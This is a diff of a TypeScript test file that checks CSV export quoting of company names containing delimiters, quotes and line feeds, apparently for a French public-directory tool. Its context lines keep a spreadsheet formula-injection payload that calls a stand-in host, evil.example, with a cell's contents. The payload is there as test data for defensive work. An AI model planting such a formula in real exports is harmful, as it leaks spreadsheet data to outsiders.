@@ -24,6 +24,9 @@ const ANNE = 'anne-marie.le-gall@mont-de-marsan.fr';
 const PAU = '21640445900010';
 /** A raison sociale with the delimiter, a quote and a CRLF: each must be quoted in a CSV. */
 const AWKWARD = 'COMMUNE; DE "PAU"\r\nLIGNE 2';
+/** One with a line feed alone: csv-stringify quotes it only when told to. */
+const MUSEE = '19640001400011';
+const TWO_LINES = 'MUSÉE NATIONAL\nDU CHÂTEAU DE PAU';
 const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")';
 const ENV = { TZ: 'Europe/Paris' };
 
@@ -45,7 +48,10 @@ describe.each(DIALECTS)('outputs for scripts and spreadsheets (%s)', HEAVY, (dia
       .find((l) => l.startsWith(`SIRET;${PAU};`))!
       .replace('COMMUNE DE PAU', `"${AWKWARD.replace(/"/g, '""')}"`);
     const file = path.join(fresh.dir, 'annuaire-maj.csv');
-    fs.writeFileSync(file, `${directory[0]}\r\n${pau}\r\n`);
+    const musee = directory
+      .find((l) => l.startsWith(`SIRET;${MUSEE};`))!
+      .replace('MUSÉE NATIONAL DU CHÂTEAU DE PAU', `"${TWO_LINES}"`);
+    fs.writeFileSync(file, `${directory[0]}\r\n${pau}\r\n${musee}\r\n`);
     const imported = await corr('structure', 'import', file);
     expect(imported.code, imported.stderr).toBe(0);
     expect((await corr('sync', 'madrhas', path.join(FIXTURES, 'madrhas.csv'))).code).toBe(1);
@@ -76,6 +82,9 @@ describe.each(DIALECTS)('outputs for scripts and spreadsheets (%s)', HEAVY, (dia
         city: 'PAU',
         active: 'true',
       });
+      expect(rows.find((row) => row.identifier === MUSEE)!.companyName).toBe(TWO_LINES);
+      // quoted, or a reader that ends records at any line feed (Python's) cuts the record in two
+      expect(r.stdout).toContain(`;"${TWO_LINES}";`);
       outputs.push(r.stdout);
     }
     // the same bytes whatever the language
